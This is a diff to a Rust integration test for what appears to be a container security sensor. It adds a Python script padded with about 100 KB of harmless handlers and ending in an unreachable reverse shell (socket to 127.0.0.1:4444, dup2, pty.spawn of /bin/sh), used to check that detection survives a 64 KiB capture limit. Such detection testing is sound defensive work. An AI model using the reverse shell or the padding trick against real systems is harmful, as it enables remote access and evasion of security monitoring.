@@ -617,6 +617,39 @@ impl ImageFile {
 }
 
 /// Bytes of a working executable (/bin/true) made unique with a marker, and their SHA-256.
+/// About 100 KB of ordinary request handlers, then `sys.exit(0)` and a reverse shell (never
+/// reached). Python reads the whole file before it runs any of it.
+fn padded_reverse_shell() -> Vec<u8> {
+    const HANDLER: &str = r#"
+def handler_NUM(request, retries=3):
+    """The JSON body of request NUM, retried on bad input."""
+    for attempt in range(retries):
+        try:
+            return json.loads(request.body or "{}")
+        except ValueError as exc:
+            logging.warning("bad body %s on attempt %d: %s", request.path, attempt, exc)
+    return {}
+"#;
+    const SHELL: &str = r#"
+sys.exit(0)
+import socket, os, pty
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("127.0.0.1", 4444))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.dup2(s.fileno(), 2)
+pty.spawn("/bin/sh")
+"#;
+    let mut text = String::from("import json\nimport logging\nimport sys\n");
+    let mut i = 0;
+    while text.len() < 100_000 {
+        text.push_str(&HANDLER.replace("NUM", &i.to_string()));
+        i += 1;
+    }
+    text.push_str(SHELL);
+    text.into_bytes()
+}
+
 fn tool_bytes(marker: &str) -> (Vec<u8>, String) {
     use sha2::Digest;
     let mut bytes = std::fs::read("/bin/true").unwrap();
@@ -808,6 +841,19 @@ fn attacks_inside_a_real_container() {
         "{}",
         String::from_utf8_lossy(&drop_run.stderr)
     );
+    // A reverse shell after 100 KB of ordinary code: the event's 64 KiB capture holds only the
+    // ordinary code, and the sensor scores the script further. It exits before the shell, so
+    // nothing connects.
+    let padded = padded_reverse_shell();
+    let padded_path = format!("/tmp/shrike-live-padded-{}.py", std::process::id());
+    std::fs::write(&padded_path, &padded).unwrap();
+    let padded_run = c.exec(&["/usr/bin/python3", &padded_path]);
+    let _ = std::fs::remove_file(&padded_path);
+    assert!(
+        padded_run.status.success(),
+        "{}",
+        String::from_utf8_lossy(&padded_run.stderr)
+    );
     let stopped = watch.stop();
 
     let python = in_container(&stopped, "MALICIOUS_PYTHON_EXECUTED", &c);
@@ -830,6 +876,24 @@ fn attacks_inside_a_real_container() {
         py_code.as_str()
     );
     assert_container_fields(inline, &c);
+    let by_path = |path: &str| {
+        python
+            .iter()
+            .find(|f| f["finding"]["processes"][0]["script"]["path"] == path)
+            .copied()
+            .unwrap_or_else(|| panic!("no Malicious Python for {path}: {:#?}", stopped.findings))
+    };
+    let long = by_path(&padded_path);
+    let props = &long["finding"]["sourceProperties"];
+    assert_eq!(props["Python_Invocation"], "script");
+    assert!(
+        props["Python_Reasons"].as_str().unwrap().contains("dup2"),
+        "{props}"
+    );
+    assert!(props.get("Python_Scored_Part").is_none(), "{props}");
+    let long_script = &long["finding"]["processes"][0]["script"];
+    assert_eq!(long_script["size"], padded.len());
+    assert_eq!(long_script["contents"].as_str().unwrap().len(), 64 * 1024);
     let script = by_how("script");
     assert_eq!(
         script["finding"]["processes"][0]["script"]["path"],
@@ -844,7 +908,7 @@ fn attacks_inside_a_real_container() {
         script["finding"]["processes"][0]["script"]["sha256"],
         hex::encode(sha2::Sha256::digest(dropped.as_bytes()))
     );
-    assert_eq!(python.len(), 2, "only the two attacks: {python:#?}");
+    assert_eq!(python.len(), 3, "only the three attacks: {python:#?}");
 
     let check_binary = |module: &str, path: &str, sha: &str, layer: &str, comment: &str| {
         let hits = in_container(&stopped, module, &c);
